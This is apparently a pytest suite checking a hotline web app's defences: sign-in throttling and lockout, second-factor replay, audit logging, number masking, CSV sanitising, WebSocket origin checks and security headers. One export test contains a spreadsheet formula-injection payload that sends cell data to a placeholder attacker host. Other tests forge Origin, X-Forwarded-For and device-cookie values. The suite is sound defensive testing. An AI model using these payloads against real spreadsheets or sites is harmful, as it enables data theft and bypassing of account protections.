"""The web app's defences, each probed on a running app: sign-in that resists guessing, every access to
personal data in the audit log, exports a spreadsheet cannot turn into links, live screens that close when
their sign-in ends, an agent desk that shows no one else's caller, and the headers on every answer."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import pyotp
import pytest
from aiohttp import ClientSession, CookieJar, WSMsgType
from sqlalchemy import select

from ami_bridge.calls import Call
from ami_bridge.case_writer import CaseWriter
from hotline.cases import spreadsheet_cell
from hotline.db.models import AuditEntry, Case
from hotline.db.numbers import NumberAllocator
from hotline.settings import Privacy
from hotline.values import mask_number
from ivr.prompts import catalog
from shell.service import with_closed_call_hooks
from tests.web_site import PASSWORD, Site, post_login, sign_in, site
from web import auth, devices
from web.context import CONTEXT, Context
from web.live import SIGNED_OUT
from web.throttle import Throttle

__all__ = ["site"]  # the fixture


class Clock:
    """Seconds from a fixed moment, moved by the test."""

    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> datetime:
        return datetime(2026, 12, 1, tzinfo=UTC) + timedelta(seconds=self.now)


def clocked(site: Site, clock: Clock) -> Throttle:
    """The sign-in throttle on the test's clock (the one in the database the site's centers share)."""
    c = context(site)
    return Throttle(c.db, "sign_in", c.limits_key, clock=clock)


def context(site: Site) -> Context:
    assert site.client.app is not None
    return site.client.app[CONTEXT]


async def audit_entries(site: Site, action: str) -> list[AuditEntry]:
    async with site.hotline.db() as session:
        return list(
            await session.scalars(
                select(AuditEntry).where(AuditEntry.action == action).order_by(AuditEntry.id)
            )
        )


async def add_case(site: Site, linkedid: str, caller: str, agent: str, **fields: Any) -> str:
    start = datetime.now(UTC) - timedelta(minutes=30)
    call = Call(linkedid=linkedid, started_at=start, caller=caller, did="1022", topic="health", **fields)
    call.queue, call.queued_at, call.answered_at = "operator", start, start + timedelta(seconds=5)
    call.agent, call.agent_name = agent, f"agent {agent}"
    call.mark("entered", did="1022")
    call.finish(start + timedelta(seconds=60), "16 Normal Clearing")
    await with_closed_call_hooks(
        CaseWriter(site.hotline.db, NumberAllocator(site.hotline.db), settle_seconds=0)
    ).write([call])
    async with site.hotline.db() as session:
        number = await session.scalar(select(Case.number).where(Case.linkedid == linkedid))
    assert number
    return number


# -- sign-in ----------------------------------------------------------------------------------------
async def test_wrong_passwords_slow_down_then_lock_the_account_until_an_admin_unlocks_it(site: Site) -> None:
    clock = Clock()
    context(site).throttle = clocked(site, clock)
    for attempt in range(1, auth.LOCK_AFTER + 1):
        reply = await post_login(site.client, "sup", f"wrong guess {attempt}")
        assert reply.status == 401, attempt
        # Three tries are free; then each wrong one closes the door for twice as long as the one before.
        wait = 2.0 ** (attempt - 3) if attempt > 3 else 0.0
        if wait:
            refused = await post_login(site.client, "sup", PASSWORD)
            assert refused.status == 429 and int(refused.headers["Retry-After"]) == int(wait)
            clock.now += wait
    # The tenth wrong password locked the account: the right one is refused too, whatever the delay.
    clock.now += 3600
    reply = await post_login(site.client, "sup", PASSWORD)
    assert reply.status == 401 and "bị khóa" in await reply.text()
    failed = await audit_entries(site, "sign_in.wrong")
    assert len(failed) == auth.LOCK_AFTER - 1
    assert all(e.target == "sup" and e.detail["address"] == "127.0.0.1" for e in failed)
    assert len(await audit_entries(site, "sign_in.locked_out")) == 1  # the try that locked it
    assert len(await audit_entries(site, "sign_in.locked")) == 1  # the right password, refused
    await auth.unlock(site.hotline.db, "sup")
    assert (await post_login(site.client, "sup", PASSWORD)).status == 303


async def test_guesses_from_one_address_slow_down_whatever_the_account(site: Site) -> None:
    context(site).throttle = clocked(site, Clock())
    for name in ("nobody", "admin", "an", "sup"):
        assert (await post_login(site.client, name, "not the password")).status == 401
    # The fourth wrong try from this address closed it for a while, for every account.
    assert (await post_login(site.client, "admin", PASSWORD)).status == 429


async def test_a_sign_in_posted_without_the_forms_token_is_refused(site: Site) -> None:
    reply = await site.client.post("/login", data={"username": "sup", "password": PASSWORD})
    assert reply.status == 403 and auth.COOKIE not in reply.cookies


def test_passwords_that_are_short_common_or_contain_the_name_are_refused() -> None:
    for password, user in (
        ("short", "x"),
        ("matkhau123", "x"),
        ("1234567890", "x"),
        ("giamsat-2026!", "giamsat"),
    ):
        with pytest.raises(auth.AuthError):
            auth.check_password(password, user)
    auth.check_password("mật-khẩu-đủ-dài", "giamsat")


async def test_disabled_users_revoked_and_expired_tokens_sign_in_no_more(site: Site) -> None:
    await auth.set_active(site.hotline.db, "sup", False)
    assert (await post_login(site.client, "sup", PASSWORD)).status == 401
    await auth.set_active(site.hotline.db, "sup", True)
    assert (await post_login(site.client, "sup", PASSWORD)).status == 303
    bearer = {"Authorization": f"Bearer {site.tokens['supervisor']}"}
    assert (await site.client.get("/api/v1/board", headers=bearer)).status == 200
    await auth.revoke_token(site.hotline.db, "portal-supervisor")
    assert (await site.client.get("/api/v1/board", headers=bearer)).status == 401
    expired = await auth.add_token(site.hotline.db, "old", "supervisor", days=0)
    assert (
        await site.client.get("/api/v1/board", headers={"Authorization": f"Bearer {expired}"})
    ).status == 401
    names = {t.name: t for t in await auth.list_tokens(site.hotline.db)}
    assert names["portal-supervisor"].revoked_at is not None and names["old"].expires_at is not None


# -- personal data in the audit log ------------------------------------------------------------------
async def test_every_recording_download_is_audited_whatever_its_ranges(site: Site) -> None:
    await sign_in(site, "sup")
    number = site.numbers["101"]
    for ranges in ("bytes=1-", "bytes=-100000000", "bytes=0-10", None):
        headers = {"Range": ranges} if ranges else {}
        reply = await site.client.get(f"/api/v1/cases/{number}/recording", headers=headers)
        assert reply.status in (200, 206)
        await reply.read()
    played = await audit_entries(site, "recording.play")
    # One entry per person, recording and minute: the first request, whichever range it asked for.
    assert [(e.actor, e.target, e.detail["range"]) for e in played] == [("sup", number, "bytes=1-")]
    context(site).played.clear()  # as if a minute had passed
    await site.client.get(f"/api/v1/cases/{number}/recording", headers={"Range": "bytes=-100000000"})
    assert len(await audit_entries(site, "recording.play")) == 2


async def test_case_views_searches_and_exports_are_audited_with_their_filters_and_rows(site: Site) -> None:
    await sign_in(site, "sup")
    assert (await site.client.get(f"/api/v1/cases/{site.numbers['101']}")).status == 200
    assert (await site.client.get(f"/cases/{site.numbers['102']}")).status == 200
    assert (await site.client.get("/api/v1/cases?topic=operator")).status == 200
    assert (await site.client.get("/cases?agent=101")).status == 200
    assert (await site.client.get("/api/v1/cases.csv")).status == 200
    views = await audit_entries(site, "case.view")
    assert [e.target for e in views] == [site.numbers["101"], site.numbers["102"]]
    searches = (await audit_entries(site, "case.search"))[-2:]  # (signing in opened the cases page too)
    assert [(e.detail["filters"], e.detail["rows"]) for e in searches] == [
        ({"topic": "operator"}, 2),
        ({"agent": "101"}, 1),
    ]
    (export,) = await audit_entries(site, "case.export")
    assert export.actor == "sup" and export.detail["rows"] == 2


# -- exports and lists --------------------------------------------------------------------------------
async def test_a_caller_name_that_is_a_formula_reaches_the_spreadsheet_as_text(site: Site) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A2,"x")'
    await add_case(site, "200.1", "+84912345678", "101", caller_name=evil)
    await sign_in(site, "sup")
    rows = list(csv.DictReader(io.StringIO(await (await site.client.get("/api/v1/cases.csv")).text())))
    row = next(r for r in rows if r["linkedid"] == "200.1")
    assert row["caller_name"] == "'" + evil and row["caller"] == "'+84912345678"
    assert [spreadsheet_cell(v) for v in ("@SUM(A1)", "-2+3", "\tx", "\rx", "0912")] == [
        "'@SUM(A1)",
        "'-2+3",
        "'\tx",
        "'\rx",
        "0912",
    ]


async def test_caller_numbers_are_masked_for_a_role_below_the_sites_choice(site: Site) -> None:
    await sign_in(site, "sup")
    whole = await (await site.client.get("/api/v1/cases")).json()
    assert {c["caller"] for c in whole} == {"0912000111"}
    c = context(site)
    c.settings = c.settings.model_copy(update={"privacy": Privacy(full_numbers_role="admin")})
    masked = await (await site.client.get("/api/v1/cases")).json()
    assert {c["caller"] for c in masked} == {"0912***111"}
    exported = await (await site.client.get("/api/v1/cases.csv")).text()
    assert "0912000111" not in exported and "0912***111" in exported
    page = await (await site.client.get("/cases")).text()
    assert "0912000111" not in page and "0912***111" in page
    assert mask_number("0944123888") == "0944***888" and mask_number("101") == "***"


# -- the agent desk -----------------------------------------------------------------------------------
def on_call(site: Site, caller: str) -> None:
    """Agent 101 talking to `caller` (the live board as the bridge would have it)."""
    call = Call(linkedid="live.1", started_at=datetime.now(UTC), caller=caller, did="1022")
    call.answered_at, call.agent = datetime.now(UTC), "101"
    site.hotline.calls[call.linkedid] = call
    site.hotline.board.agents["101"].queues.add("operator")
    site.hotline.board.agents["101"].call = call.linkedid


async def test_the_desk_shows_no_history_for_a_withheld_number_and_only_a_summary_of_others_cases(
    site: Site,
) -> None:
    secret = "the caller's address and illness"
    await add_case(site, "300.1", "anonymous", "102", note=secret)
    await sign_in(site, "an")
    on_call(site, "anonymous")
    desk = await (await site.client.get("/api/v1/desk")).json()
    assert desk["earlier"] == []
    on_call(site, "0912000111")  # the number of the two cases the fixture wrote: 101's and 102's
    earlier = {e["number"]: e for e in (await (await site.client.get("/api/v1/desk")).json())["earlier"]}
    mine, theirs = earlier[site.numbers["101"]], earlier[site.numbers["102"]]
    assert mine["caller"] == "0912***111" and mine["agent"] == "101"  # a list: masked for an agent
    assert set(theirs) == {"number", "started_at", "topic", "status"}
    assert (await site.client.get(f"/api/v1/cases/{site.numbers['102']}")).status == 403


# -- the live screens ---------------------------------------------------------------------------------
async def test_a_live_screen_opened_from_another_site_is_refused(site: Site) -> None:
    await sign_in(site, "sup")
    reply = await site.client.get(
        "/ws/live",
        headers={
            "Origin": "http://evil.example",
            "Connection": "Upgrade",
            "Upgrade": "websocket",
            "Sec-WebSocket-Version": "13",
            "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
        },
    )
    assert reply.status == 403


async def test_live_screens_close_on_sign_out_and_when_a_user_is_disabled(site: Site) -> None:
    own = str(site.client.make_url("")).rstrip("/")
    csrf = await sign_in(site, "sup")
    ws = await site.client.ws_connect("/ws/live", headers={"Origin": own})
    assert (await ws.receive()).type is WSMsgType.TEXT
    assert (await site.client.post("/logout", data={"csrf": csrf}, allow_redirects=False)).status == 303
    closed = await asyncio.wait_for(_closed(ws), 5)
    assert closed == SIGNED_OUT
    await sign_in(site, "sup")
    ws = await site.client.ws_connect("/ws/live", headers={"Origin": own})
    assert (await ws.receive()).type is WSMsgType.TEXT
    await auth.set_active(site.hotline.db, "sup", False)  # from the command line: another process
    assert await asyncio.wait_for(_closed(ws), 10) == SIGNED_OUT


async def _closed(ws: Any) -> int:
    while True:
        message = await ws.receive()
        if message.type is WSMsgType.CLOSE:
            return int(message.data)  # the code the server closed with
        if message.type in (WSMsgType.CLOSED, WSMsgType.CLOSING, WSMsgType.ERROR):
            return 0


# -- headers and parameters ---------------------------------------------------------------------------
async def test_security_headers_are_on_redirects_errors_and_https(site: Site) -> None:
    redirect = await site.client.get("/wallboard", allow_redirects=False)
    missing = await site.client.get("/no-such-page")
    assert redirect.status == 303 and missing.status == 404
    for reply in (redirect, missing):
        assert reply.headers["X-Frame-Options"] == "DENY"
        assert "frame-ancestors 'none'" in reply.headers["Content-Security-Policy"]
        assert "Strict-Transport-Security" not in reply.headers
    # Believed only from a trusted proxy: a client cannot claim HTTPS for itself.
    claimed = await site.client.get("/login", headers={"X-Forwarded-Proto": "https"})
    assert "Strict-Transport-Security" not in claimed.headers
    site.settings.web.trusted_proxies.append("127.0.0.1")
    over_https = await site.client.get("/login", headers={"X-Forwarded-Proto": "https"})
    assert over_https.headers["Strict-Transport-Security"].startswith("max-age=")


async def test_a_bad_number_in_a_query_answers_400(site: Site) -> None:
    await sign_in(site, "sup")
    for limit in ("²", "-1", "1e3", "ten"):
        reply = await site.client.get(f"/api/v1/cases?limit={limit}")
        assert reply.status == 400, limit
        assert "limit" in (await reply.json())["error"]


async def test_an_admin_filters_the_audit_log_and_exports_it_which_is_audited_too(site: Site) -> None:
    await post_login(site.client, "sup", "a wrong password")
    await sign_in(site, "admin")
    wrong = await (await site.client.get("/api/v1/audit?action=sign_in.wrong")).json()
    assert [(e["action"], e["target"], e["actor"]) for e in wrong] == [
        ("sign_in.wrong", "sup", "anonymous@127.0.0.1")
    ]
    assert await (await site.client.get("/api/v1/audit?actor=admin&action=sign_in")).json() != []
    assert await (await site.client.get("/api/v1/audit?target=nobody")).json() == []
    exported = await (await site.client.get("/api/v1/audit.csv?action=sign_in")).text()
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert {r["action"] for r in rows} == {"sign_in", "sign_in.wrong"}
    (export,) = await audit_entries(site, "audit.export")
    assert export.actor == "admin" and export.detail == {"filters": {"action": "sign_in"}, "rows": len(rows)}
    assert "audit-export" in await (await site.client.get("/audit?action=sign_in")).text()


# -- the second factor --------------------------------------------------------------------------------
async def test_a_user_with_a_second_factor_needs_a_fresh_code_each_time(site: Site) -> None:
    secret = auth.enrol_totp_secret()
    await auth.set_totp(site.hotline.db, "sup", secret)
    assert (await post_login(site.client, "sup", PASSWORD)).status == 401  # the password alone
    code = pyotp.TOTP(secret).now()
    wrong = "000000" if code != "000000" else "111111"
    reply = await post_login(site.client, "sup", PASSWORD, code=wrong)
    assert reply.status == 401 and "Mã xác thực" in await reply.text()
    assert (await post_login(site.client, "sup", PASSWORD, code=code)).status == 303
    # The same code again (read over a shoulder, replayed from a log): refused.
    assert (await post_login(site.client, "sup", PASSWORD, code=code)).status == 401
    assert [e.action for e in await audit_entries(site, "sign_in.wrong_code")] == ["sign_in.wrong_code"] * 3


async def test_a_role_the_site_asks_for_a_second_factor_cannot_sign_in_without_one(site: Site) -> None:
    c = context(site)
    c.settings = c.settings.model_copy(
        update={"web": c.settings.web.model_copy(update={"second_factor_role": "supervisor"})}
    )
    assert (await post_login(site.client, "an", PASSWORD)).status == 303  # an agent: below the role
    refused = await post_login(site.client, "admin", PASSWORD)
    assert refused.status == 401 and "hotline user totp" in await refused.text()


def test_codes_from_the_neighbouring_steps_count_once_and_others_never() -> None:
    secret = auth.enrol_totp_secret()
    totp = pyotp.TOTP(secret)
    at = 1_800_000_000.0
    step = int(at // auth.TOTP_STEP)
    assert auth.totp_step(secret, totp.at(at), 0, at) == step
    assert auth.totp_step(secret, totp.at(at - 30), 0, at) == step - 1  # a phone's clock a little slow
    assert auth.totp_step(secret, totp.at(at - 90), 0, at) is None
    assert auth.totp_step(secret, totp.at(at), step, at) is None  # used already
    assert auth.totp_step(secret, "12345", 0, at) is None and auth.totp_step(secret, "abcdef", 0, at) is None


async def test_the_sites_privacy_notice_is_on_every_page_and_the_greeting_says_calls_are_recorded(
    site: Site,
) -> None:
    page = await (await site.client.get("/login")).text()
    assert "Nghị định 13/2023" in page
    c = context(site)
    c.settings = c.settings.model_copy(update={"privacy": Privacy(notice="Thông báo riêng của tỉnh")})
    assert "Thông báo riêng của tỉnh" in await (await site.client.get("/login")).text()
    prompts = catalog.load().prompts
    for greeting in ("welcome", "welcome_mobile"):
        assert "ghi âm" in prompts[greeting]["vi"] and "recorded" in prompts[greeting]["en"]


async def test_behind_a_trusted_proxy_each_client_has_its_own_limits_and_nobody_else_can_pick_one(
    site: Site,
) -> None:
    context(site).throttle = clocked(site, Clock())
    # Without a trusted proxy the header is nobody's word: the address written into it is not taken.
    forged = await post_login(site.client, "an", "sai", headers={"X-Forwarded-For": "192.0.2.1"})
    assert forged.status == 401
    assert [e.detail["address"] for e in await audit_entries(site, "sign_in.wrong")] == ["127.0.0.1"]
    site.settings.web.trusted_proxies.append("127.0.0.1")
    # The proxy (the test client, from 127.0.0.1) passes on two citizens: wrong passwords of one delay
    # only that one. Four wrong passwords from 203.0.113.7 ...
    for _ in range(4):
        await post_login(site.client, "admin", "sai", headers={"X-Forwarded-For": "203.0.113.7"})
    slowed = await post_login(site.client, "sup", PASSWORD, headers={"X-Forwarded-For": "203.0.113.7"})
    assert slowed.status == 429
    # ... and 198.51.100.9, behind the same proxy, signs in at once. A forged hop on the left is ignored.
    other = await post_login(
        site.client, "sup", PASSWORD, headers={"X-Forwarded-For": "203.0.113.7, 198.51.100.9"}
    )
    assert other.status == 303, await other.text()
    assert [e.detail["address"] for e in await audit_entries(site, "sign_in")] == ["198.51.100.9"]


async def test_guessing_from_many_addresses_locks_the_guessers_out_never_the_person(site: Site) -> None:
    clock = Clock()
    context(site).throttle = clocked(site, clock)
    site.settings.web.trusted_proxies.append("127.0.0.1")
    # The supervisor signs in at their desk once: that browser is known from then on.
    assert (await post_login(site.client, "sup", PASSWORD)).status == 303
    site.client.session.cookie_jar.clear(lambda cookie: cookie.key == auth.COOKIE)
    # Someone else, from ten addresses, guesses the supervisor's password: the account locks for them.
    async with ClientSession(str(site.client.make_url("")), cookie_jar=CookieJar(unsafe=True)) as attacker:
        for n in range(auth.LOCK_AFTER):
            clock.now += 3600  # past every delay
            wrong = await post_login(
                attacker, "sup", f"guess {n}", headers={"X-Forwarded-For": f"198.51.100.{n}"}
            )
            assert wrong.status == 401
        clock.now += 3600
        refused = await post_login(attacker, "sup", PASSWORD, headers={"X-Forwarded-For": "198.51.100.99"})
        assert refused.status == 401 and "bị khóa" in await refused.text()
        forged = {devices.COOKIE: "abc." + "0" * 32}
        attacker.cookie_jar.update_cookies(forged)
        clock.now += 3600
        refused = await post_login(attacker, "sup", PASSWORD, headers={"X-Forwarded-For": "198.51.100.98"})
        assert refused.status == 401  # a device cookie the site did not sign is no device
    assert len(await audit_entries(site, "sign_in.locked_out")) == 1
    # The person, in their own browser, is not locked out; their own wrong tries slow only that browser.
    for n in range(3):
        assert (await post_login(site.client, "sup", f"typo {n}")).status == 401
    assert (await post_login(site.client, "sup", PASSWORD)).status == 303
